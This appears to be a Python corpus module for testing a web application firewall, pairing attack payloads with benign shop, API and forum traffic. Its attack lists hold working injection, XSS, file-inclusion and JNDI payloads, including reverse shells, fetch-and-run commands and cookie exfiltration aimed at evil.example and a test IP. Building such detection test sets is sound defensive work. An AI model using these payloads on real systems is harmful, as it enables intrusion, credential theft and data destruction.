"""A WAF corpus written for this repo: attacks by family in the places a client puts them, and benign traffic of
the kinds a web shop, an API and a forum really receive, so that both a detection rate and a false-positive rate
mean something. Used by ``tests/test_waf_corpus.py`` (both CRS releases, sans-IO) and ``bench/waf_corpus.py``
(through the running proxy).

Attack values are replayed in each place their family is sent in practice: query string, form body, JSON body,
multipart field, cookie, and the headers CRS inspects for that family (User-Agent, Referer, X-Api-Version);
LFI also in the URL path. Values are encoded as the client would (``+`` in queries and forms, JSON escaping,
cookie-octets). The protocol family is whole requests (smuggling, response splitting, NUL bytes, forbidden
methods, content types, headers and extensions, scanners). Benign requests are whole requests too: JSON and
GraphQL APIs, forms with apostrophes and symbols, markdown and rich text, searches, OAuth callbacks, uploads,
cookies with base64/JWT/signed values, real user agents.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from urllib.parse import quote, quote_plus

from sentin8.waf import WafRequest

HOST = "shop.test"
BROWSER = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_BASE = [
    (b"User-Agent", BROWSER),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    (b"Accept-Language", b"en-GB,en;q=0.7,de;q=0.3"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
]
FORM = b"application/x-www-form-urlencoded"
JSON = b"application/json"
BOUNDARY = b"----formdata7MA4YWxkTrZu0gW"


@dataclass(frozen=True)
class Case:
    """One request of the corpus: ``family`` (``benign`` for the benign ones), where the value sits, a label."""

    family: str
    where: str
    label: str
    method: bytes
    target: bytes
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes = b""

    def waf_request(self) -> WafRequest:
        return WafRequest(self.method, self.target, "1.1", [(b"Host", HOST.encode()), *self.headers], HOST,
                          "198.51.100.23", body=self.body)  # fmt: skip

    def raw(self, host: str = HOST) -> bytes:
        """The request on the wire (HTTP/1.1), for the benchmark through the proxy."""
        head = b"%s %s HTTP/1.1\r\nHost: %s\r\n" % (self.method, self.target, host.encode())
        head += b"".join(b"%s: %s\r\n" % kv for kv in self.headers)
        return head + b"\r\n" + self.body


def request(family: str, where: str, label: str, target: str | bytes, method: bytes = b"GET",
            headers: list[tuple[bytes, bytes]] | None = None, body: bytes = b"", ctype: bytes | None = None,
            base: list[tuple[bytes, bytes]] | None = None) -> Case:  # fmt: skip
    hs = list(base if base is not None else _BASE)
    over = {k.lower() for k, _ in headers or ()}
    hs = [kv for kv in hs if kv[0].lower() not in over] + list(headers or ())
    if ctype is not None:
        hs.append((b"Content-Type", ctype))
    if body or method in (b"POST", b"PUT", b"PATCH"):
        hs.append((b"Content-Length", b"%d" % len(body)))
    t = target.encode() if isinstance(target, str) else target
    return Case(family, where, label, method, t, tuple(hs), body)


def multipart(fields: list[tuple[str, bytes]], files: list[tuple[str, str, bytes, bytes]] = ()) -> bytes:
    out = b""
    for name, value in fields:
        out += b"--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n" % (BOUNDARY, name.encode(), value)
    for name, filename, ctype, data in files:
        disposition = b'form-data; name="%s"; filename="%s"' % (name.encode(), filename.encode())
        part = b"Content-Disposition: %s\r\nContent-Type: %s\r\n\r\n%s" % (disposition, ctype, data)
        out += b"--%s\r\n%s\r\n" % (BOUNDARY, part)
    return out + b"--%s--\r\n" % BOUNDARY


MULTIPART = b"multipart/form-data; boundary=" + BOUNDARY
_COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"  # RFC 6265 cookie-octets (no space, quote, comma, ; or \)


def placed(family: str, where: str, value: str) -> Case:
    """``value`` where a client puts it, encoded as that client would."""
    v = value.encode()
    if where == "query":
        return request(family, where, value, f"/search?q={quote_plus(value)}&page=1")
    if where == "form":
        body = f"comment={quote_plus(value)}&rating=5".encode()
        return request(family, where, value, "/reviews", b"POST", body=body, ctype=FORM)
    if where == "json":
        body = json.dumps({"query": value, "limit": 20}).encode()
        return request(family, where, value, "/api/v2/search", b"POST", body=body, ctype=JSON)
    if where == "multipart":
        body = multipart([("title", b"My review"), ("comment", v)])
        return request(family, where, value, "/reviews/upload", b"POST", body=body, ctype=MULTIPART)
    if where == "cookie":
        cookie = f"sid=7f3b2c9a81d4e6f0; pref={quote(value, safe=_COOKIE_SAFE)}".encode()
        return request(family, where, value, "/account", headers=[(b"Cookie", cookie)])
    if where == "path":
        return request(family, where, value, "/files/" + quote(value, safe="/.%\\:"))
    header = {"user-agent": b"User-Agent", "referer": b"Referer", "x-api-version": b"X-Api-Version"}[where]
    return request(family, where, value, "/", headers=[(header, v)])


# ---- attacks ----------------------------------------------------------------------------------------------

_IN_BODIES = ("query", "form", "json", "multipart", "cookie")
PLACES: dict[str, tuple[str, ...]] = {
    "sqli": (*_IN_BODIES, "user-agent", "referer"),
    "xss": (*_IN_BODIES, "user-agent", "referer"),
    "lfi": ("query", "form", "json", "cookie", "path"),
    "rce": (*_IN_BODIES, "user-agent"),
    "php": _IN_BODIES,
    "java": (*_IN_BODIES, "user-agent", "x-api-version"),
    "generic": _IN_BODIES,
}

ATTACK_VALUES: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1", "1 OR 1=1", "' OR 1=1-- -", "admin'--", "admin' #", "') OR ('a'='a", '" OR ""="',
        "1' UNION SELECT username, password FROM users--", "1 UNION ALL SELECT NULL,NULL,version()--",
        "-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables-- -",
        "1/**/UNION/**/SELECT/**/password/**/FROM/**/users", "1; DROP TABLE orders", "1' AND SLEEP(5)-- -",
        "1) AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -", "1'||pg_sleep(5)--", "1 WAITFOR DELAY '0:0:5'",
        "1' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -", "1 AND 1=CONVERT(int,(SELECT @@version))",
        "'; EXEC xp_cmdshell('whoami')--", "1' ORDER BY 10-- -", "1 AND benchmark(10000000,md5(1))",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
        "x' AND updatexml(1,concat(0x2e,user()),1) AND 'a'='a", "1 AND (SELECT COUNT(*) FROM sysobjects)>0",
        "1'; SELECT pg_read_file('/etc/passwd')--", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "'+(SELECT 0 FROM DUAL WHERE 1=1)+'", "1' AND 1=(SELECT 1 FROM mysql.user LIMIT 1)-- -",
        "1;SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END--", "' HAVING 1=1--",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
        "\"><script>fetch('https://evil.example/'+document.cookie)</script>", "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\">", "<body onload=alert('xss')>", "'\"><img src=1 onerror=prompt(1)>",
        "<a href=\"#\" onclick=\"alert(1)\">click</a>", "<details open ontoggle=alert(1)>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
        "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "<input autofocus onfocus=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<div style=\"background:url(javascript:alert(1))\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<marquee onstart=alert(1)>",
        "</textarea><script>alert(1)</script>", "<video><source onerror=\"alert(1)\">",
        "<math><a xlink:href=javascript:alert(1)>x",
        "{{constructor.constructor('alert(1)')()}}", "<base href=\"javascript:/a/-alert(1)///\">",
        "<svg><script>alert&#40;1&#41;</script>", "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
        "<form action=javascript:alert(1)><input type=submit>", "';alert(document.domain)//",
    ],
    "lfi": [
        "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "/etc/shadow",
        "..\\..\\..\\windows\\win.ini", "c:\\windows\\system32\\drivers\\etc\\hosts", "/proc/self/environ",
        "../../../../../../var/log/apache2/access.log", "../../../../etc/passwd%00.png",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        "../../../../root/.ssh/id_rsa", "../../WEB-INF/web.xml", "....\\\\....\\\\boot.ini", "/.git/config",
        "../.env", "../../../../usr/local/etc/php/php.ini", "file:///etc/passwd",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ],
    "rce": [
        "; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "127.0.0.1; ls -la /",
        "127.0.0.1 && curl http://evil.example/x.sh | sh",
        "; wget http://evil.example/bot -O /tmp/bot; chmod +x /tmp/bot",
        "|| nc -e /bin/sh 203.0.113.9 4444", "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "& ping -n 10 127.0.0.1 &",
        "| powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
        "; python3 -c 'import socket,subprocess,os;s=socket.socket()'", "$(curl -s http://evil.example/$(id|base64))",
        ";/bin/cat${IFS}/etc/passwd", "a;echo${IFS}pwned>/tmp/x", "x|rm -rf /", "& cmd.exe /c dir c:\\",
        "; perl -e 'exec \"/bin/sh\"'", "() { :; }; /bin/bash -c 'cat /etc/passwd'", ";sleep 10;",
        "$(printf '\\x69\\x64')", "| busybox telnetd -l /bin/sh -p 9999",
    ],
    "php": [
        "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", "php://input",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", "expect://id",
        'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}', 'a:2:{i:0;s:4:"test";i:1;O:4:"Evil":0:{}}',
        "phpinfo()", "system('id')", "assert($_POST['x'])", "eval(base64_decode('cGhwaW5mbygpOw=='))",
        "file_get_contents('/etc/passwd')", "passthru(\"cat /etc/passwd\")", "shell_exec('ls -la')",
        "phar://uploads/avatar.jpg/shell.php", "<?= `id` ?>", "call_user_func('system','id')",
        "-d allow_url_include=1 -d auto_prepend_file=php://input", "$_SERVER['DOCUMENT_ROOT']",
        "zip://uploads/shell.jpg#payload.php", "preg_replace('/.*/e','system(\"id\")','')",
    ],
    "java": [
        "${jndi:ldap://evil.example:1389/a}", "${${lower:j}ndi:${lower:r}mi://evil.example/x}",
        "${jndi:dns://evil.example/x}", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}",
        "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
        "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", "java.lang.Runtime.getRuntime().exec(\"calc\")",
        "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABB0AAFh",
        "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
        "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
        "org.apache.commons.collections.functors.InvokerTransformer", "new java.lang.ProcessBuilder(\"id\").start()",
        "${env:AWS_SECRET_ACCESS_KEY}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
    ],
    "generic": [
        "require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('id')",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "__proto__[isAdmin]=true",
        "constructor[prototype][polluted]=1", "this.constructor.constructor('return process')().exit()",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "gopher://127.0.0.1:6379/_FLUSHALL",
        "<%= system('id') %>", "{{''.__class__.__mro__[1].__subclasses__()}}",
    ],
}  # fmt: skip


def _protocol() -> list[Case]:
    """Whole-request attacks on HTTP itself: what CRS 911/913/920/921 are for."""
    p = "protocol"
    smuggled = b"data=" + quote_plus("x\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n").encode()
    return [
        request(p, "query", "response splitting", "/redirect?url=%0d%0aSet-Cookie:%20admin=1"),
        request(p, "query", "header injection", "/page?lang=en%0d%0aLocation:%20http://evil.example/"),
        request(p, "form", "request smuggling in a body", "/feedback", b"POST", body=smuggled, ctype=FORM),
        request(p, "query", "NUL byte", "/download?name=report.pdf%00.php"),
        request(p, "path", "backup file", "/backup/site-2024.sql"),
        request(p, "path", "config backup", "/config.php.bak"),
        request(p, "header", "httpoxy", "/", headers=[(b"Proxy", b"http://evil.example:8080")]),
        request(p, "body", "forbidden content type", "/api", b"POST", body=b"x=1", ctype=b"application/x-evil"),
        request(p, "body", "utf-7 charset", "/c", b"POST", body=b"m=%2BADw-script%2BAD4-",
                ctype=FORM + b"; charset=utf-7"),
        request(p, "method", "PROPFIND", "/", b"PROPFIND"),
        request(p, "method", "TRACK", "/", b"TRACK"),
        request(p, "body", "GET with a body", "/search", b"GET", body=b"q=1", ctype=FORM),
        request(p, "user-agent", "sqlmap", "/", headers=[(b"User-Agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)")]),
        request(p, "user-agent", "nikto", "/", headers=[(b"User-Agent", b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:x)")]),
        request(p, "user-agent", "nuclei", "/",
                headers=[(b"User-Agent", b"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")]),
        request(p, "query", "unicode full-width", "/s?q=%uff1cscript%uff1e"),
        request(p, "query", "php cgi soft hyphen", "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
    ]  # fmt: skip


def attacks() -> list[Case]:
    out = [placed(fam, where, v) for fam, values in ATTACK_VALUES.items() for v in values for where in PLACES[fam]]
    return out + _protocol()


# ---- benign traffic ---------------------------------------------------------------------------------------

SEARCHES = [
    "best running shoes 2024", "O'Reilly books", "rock & roll t-shirt", "C# vs C++", "men's winter jacket",
    "how to select a good laptop", "drop shipping", "union station chicago", "wedding speech script",
    "1/2 cup to ml", "what's new in python 3.12", "50% off", "anne.marie@example.com", "select all that apply",
    "table for two", "delete my account", "insert coin", "update firmware", "\"exact phrase\"", "<3 emoji",
    "price < 100", "a-b testing", "café crème", "Zürich Hbf", "東京 天気", "naïve bayes", "it's 5 o'clock",
    "don't stop me now", "AT&T iPhone 15", "USB-C to HDMI (4K)", "100% cotton, size M/L", "#1 bestseller",
    "rosé wine under $20", "Q&A session", "sort by: price (low to high)", "50/50 raffle", "Lord of the Rings",
]  # fmt: skip
FORMS = [
    "name=Siobh%C3%A1n+O%27Brien&email=siobhan.obrien%40example.ie&phone=%2B353+1+555+0199"
    "&message=Hi%2C+I%27d+like+to+know+if+you%27re+open+on+Sunday+%26+whether+parking%27s+free.+Thanks%21",
    "street=12+Baker%27s+Row%2C+Apt.+4B&city=St.+John%27s&zip=A1C+5M2&country=CA&notes=Ring+twice+%28dog%29",
    "username=d%27angelo.r&password=P%40ssw0rd%21%23%24%25%5E%26*%28%29&remember=on",
    "q=wine&min=10&max=50&sort=price-asc&in_stock=1&category%5B%5D=red&category%5B%5D=ros%C3%A9",
    "subject=Order+%2312345+-+wrong+size&body=I+ordered+a+size+10+but+got+a+9.5+%E2%80%94+can+I+swap+it%3F",
    "comment=Great+product%21+5%2F5+would+buy+again.+My+kids+love+it+%3A-%29&rating=5",
    "card_name=JOHN+Q+PUBLIC&exp=12%2F27&amount=49.99&currency=EUR&save=true",
    "bio=Developer+%40+ACME.+I+like+cats%2C+coffee+%26+long+walks.&website=https%3A%2F%2Fexample.com%2F~me",
    "title=Re%3A+meeting+at+10%3A30&to=team%40example.com&cc=&body=See+you+there+-+bring+the+Q3+numbers.",
    "search=%22red+shoes%22+-kids&from=2024-01-01&to=2024-12-31",
]  # fmt: skip
MARKDOWN = [
    "## Setup\n\n1. Download the installer\n2. Run it *as admin*\n3. Reboot\n\n> Note: it's safe to skip step 3.",
    "Thanks for the tip! I've tried it and it works :)\n\n- **pros**: fast, cheap\n- **cons**: the manual's confusing",
    "Check [the docs](https://example.com/docs?page=2&lang=en) and the `--verbose` flag.\n\n"
    "```\nmake && make install\n```",
    "I'd rate it 4/5. The battery lasts ~10h; charging takes 2h (USB-C, 65W).\n\n![photo](https://cdn.example.com/p/1.jpg)",
    "| size | chest | waist |\n|------|-------|-------|\n| M    | 96cm  | 82cm  |\n| L    | 102cm | 88cm  |",
    "Quote from the book: \"It was the best of times, it was the worst of times\" -- Dickens, 1859.",
]  # fmt: skip
RICH_TEXT = '<p>Hello <strong>world</strong>, see <em>page 2</em>.</p><ul><li>one</li><li>two</li></ul>'
JWT = (
    "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjNmMmExYiJ9.eyJzdWIiOiI0MiIsIm5hbWUiOiJBbm5lIE8nTmVpbCIsImlhdCI6MTcxNTAwMDAwMCwi"
    "ZXhwIjoxNzE1MDAzNjAwLCJzY29wZSI6Im9yZGVyczpyZWFkIG9yZGVyczp3cml0ZSJ9.kQ3v9Xh2_pZc8Yw1nT0sLr5bJ7mA4eUf6gHdKiOqRtS"
)  # fmt: skip
COOKIES = [
    "_ga=GA1.2.1234567890.1699999999; _gid=GA1.2.987654321.1700000000; _gat=1",
    f"access_token={JWT}; theme=dark",
    "session=eyJ1c2VyX2lkIjo0MiwiY2FydCI6WzEsMiwzXX0=; lang=en-GB",
    "_shop_session=BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJWQ0ZjM4YjI2YjZjZjQ0YjA5OWNkZTQ0YmQ1NjdhMTJmBjsAVA%3D%3D--3f9c8e2a7b1d4c6e5f0a",
    "sessionid=k2p9x8w7v6u5t4s3r2q1; csrftoken=Qx8bT2mN5vK1pL7rW3yZ9aC4dF6gH0jE",
    "PHPSESSID=9u5b1k3r2m0q7c4t8v6x1z2y3a; cookieconsent=%7B%22necessary%22%3Atrue%2C%22analytics%22%3Afalse%7D",
    "cart=%5B%7B%22id%22%3A12%2C%22qty%22%3A1%7D%2C%7B%22id%22%3A7%2C%22qty%22%3A2%7D%5D; currency=EUR",
    "connect.sid=s%3AJ8rX2kP9mQ4vB7nL1tW6yH3cF5dG0sA.Zk2%2FpQ9xR7vT1mN4bL6cJ8hF3gD5sA0wE2yU9iO7q",
    ".AspNetCore.Cookies=CfDJ8N2x5kLpQ7vR3mT9wY1zB4cF6hJ0sA8dG2eK5nM7qP9rU1tV3xZ6bC8eF0hJ2kL4nM6pQ8sT0vX2zA4cE6g",
    "__Host-id=1a2b3c4d; __Secure-remember=yes; last_search=O%27Brien; recently_viewed=101%2C205%2C333",
]  # fmt: skip
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/125.0.6422.113 Mobile Safari/537.36",
    "okhttp/4.12.0", "curl/8.8.0", "python-requests/2.32.3", "Go-http-client/2.0",
    "ShopApp/3.4.1 (iOS 17.5; iPhone15,2)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]  # fmt: skip


def _json(path: str, doc: object, method: bytes = b"POST", **kw) -> Case:
    return request("benign", "json", path, path, method, body=json.dumps(doc).encode(), ctype=JSON, **kw)


def benign() -> list[Case]:
    b = "benign"
    out = [request(b, "query", s, f"/search?q={quote_plus(s)}") for s in SEARCHES]
    out += [request(b, "form", f[:40], "/contact", b"POST", body=f.encode(), ctype=FORM) for f in FORMS]
    out += [request(b, "multipart", m[:40], "/forum/reply", b"POST", ctype=MULTIPART,
                    body=multipart([("thread", b"4711"), ("body", m.encode())])) for m in MARKDOWN]  # fmt: skip
    out += [request(b, "form", "markdown form", "/forum/reply", b"POST", body=b"body=" + quote_plus(m).encode(),
                    ctype=FORM) for m in MARKDOWN]  # fmt: skip
    out += [request(b, "cookie", c[:40], "/account", headers=[(b"Cookie", c.encode())]) for c in COOKIES]
    out += [request(b, "user-agent", ua[:40], "/", headers=[(b"User-Agent", ua.encode())]) for ua in USER_AGENTS]
    out += [
        request(b, "path", "REST list", "/api/v1/users/42/orders?page=2&per_page=50&sort=-created_at"),
        request(b, "path", "blog", "/blog/2024/05/how-to-cook-pasta-like-an-italian"),
        request(b, "path", "asset", "/static/js/app.3f2a1b9c.chunk.js"),
        request(b, "path", "apostrophe in path", "/products/men%27s-leather-boots"),
        request(b, "path", "download", "/download?file=report-2024-Q1.pdf&inline=1"),
        request(b, "path", "wiki", "/wiki/C%2B%2B_(programming_language)"),
        request(b, "path", "bracket params", "/api/items?filter[status]=active&filter[tags][]=new&fields=id,name"),
        request(b, "path", "oauth callback",
                "/oauth/callback?code=4%2F0AY0e-g7QxZ3kL9mN2pR5tV8wB1cD4fG6hJ&state=af0ifjsldkj&scope=email%20profile%20openid"),
        request(b, "path", "redirect", "/login?next=%2Faccount%2Fsettings%3Ftab%3Dsecurity"),
        request(b, "path", "return url", "/cart?return_to=https%3A%2F%2Fshop.test%2Fcheckout%2Fstep-2"),
        request(b, "path", "utm", "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024"),
        request(b, "path", "geo", "/stores?lat=53.3498&lng=-6.2603&radius=10km"),
        request(b, "path", "date range", "/reports?from=2024-01-01T00:00:00Z&to=2024-03-31T23:59:59Z"),
        request(b, "header", "referer with query", "/product/42",
                headers=[(b"Referer", b"https://www.google.com/search?q=o%27brien+boots&oq=obrien")]),
        request(b, "header", "bearer token", "/api/v1/me", headers=[(b"Authorization", f"Bearer {JWT}".encode())]),
        request(b, "header", "xhr", "/api/notifications", headers=[(b"X-Requested-With", b"XMLHttpRequest"),
                                                                   (b"Accept", b"application/json")]),
        request(b, "header", "conditional", "/img/logo.png", headers=[(b"If-None-Match", b'W/"5e8f-1a2b3c"'),
                                                                       (b"Cache-Control", b"no-cache")]),
        request(b, "header", "head", "/health", b"HEAD"),
        request(b, "header", "options preflight", "/api/v1/orders", b"OPTIONS",
                headers=[(b"Origin", b"https://app.shop.test"), (b"Access-Control-Request-Method", b"POST")]),
        request(b, "multipart", "photo upload", "/account/avatar", b"POST", ctype=MULTIPART, body=multipart(
            [("caption", b"Me & my dog at the beach (2023)")],
            [("file", "holiday photo (1).jpg", b"image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H")])),
        request(b, "multipart", "csv upload", "/import", b"POST", ctype=MULTIPART, body=multipart(
            [("mode", b"append")],
            [("file", "contacts.csv", b"text/csv",
              b'name,email,note\n"O\'Brien, Pat",pat@example.ie,"likes ""quotes"""\nZo\xc3\xab,zoe@example.com,-\n')])),
        request(b, "form", "rich text", "/cms/pages/7", b"POST", body=b"html=" + quote_plus(RICH_TEXT).encode(),
                ctype=FORM),
    ]  # fmt: skip
    out += [
        _json("/api/v1/orders", {"items": [{"sku": "BOOT-42-BR", "qty": 1}, {"sku": "SOCK-M", "qty": 3}],
                                 "note": "Leave it at the door, it's fine", "gift": False}),
        _json("/api/v1/me", {"name": "Anne O'Neil", "bio": "Baker 🍞, runner & mum of two.", "tags": ["a", "b"]},
              b"PATCH"),
        _json("/graphql", {"query": "query Order($id: ID!) { order(id: $id) { id total items { name qty } } }",
                           "variables": {"id": "ord_42"}}),
        _json("/graphql", {"query": "mutation { addToCart(sku: \"BOOT-42\", qty: 1) { cart { count } } }"}),
        _json("/api/events", {"event": "page_view", "props": {"path": "/products?id=7&ref=home", "ms": 1532,
                                                             "referrer": "https://www.google.com/"}}),
        _json("/api/v1/reviews", {"rating": 4, "text": "Fits well. I'd say it runs a half size small, though."}),
        _json("/api/v1/search", {"q": "O'Reilly", "filters": {"price": {"gte": 10, "lte": 50}}, "sort": ["-score"]}),
        _json("/api/v1/addresses", {"line1": "12 Baker's Row", "line2": "Apt. #4B", "city": "St. John's",
                                    "zip": "A1C 5M2"}),
        _json("/api/v1/messages", {"to": "support", "body": "Order #1234: where is it?\nThanks,\nPat"}),
        _json("/api/v1/pages/7", {"title": "About us", "html": RICH_TEXT}, b"PUT"),
        _json("/api/v1/settings", {"notifications": {"email": True, "sms": False}, "tz": "Europe/Dublin",
                                   "locale": "en-IE"}),
        _json("/api/v1/upload", {"name": "logo.png", "data": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
                                                             "2mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}),
        _json("/api/v1/markdown", {"body": MARKDOWN[2]}),
    ]  # fmt: skip
    return out
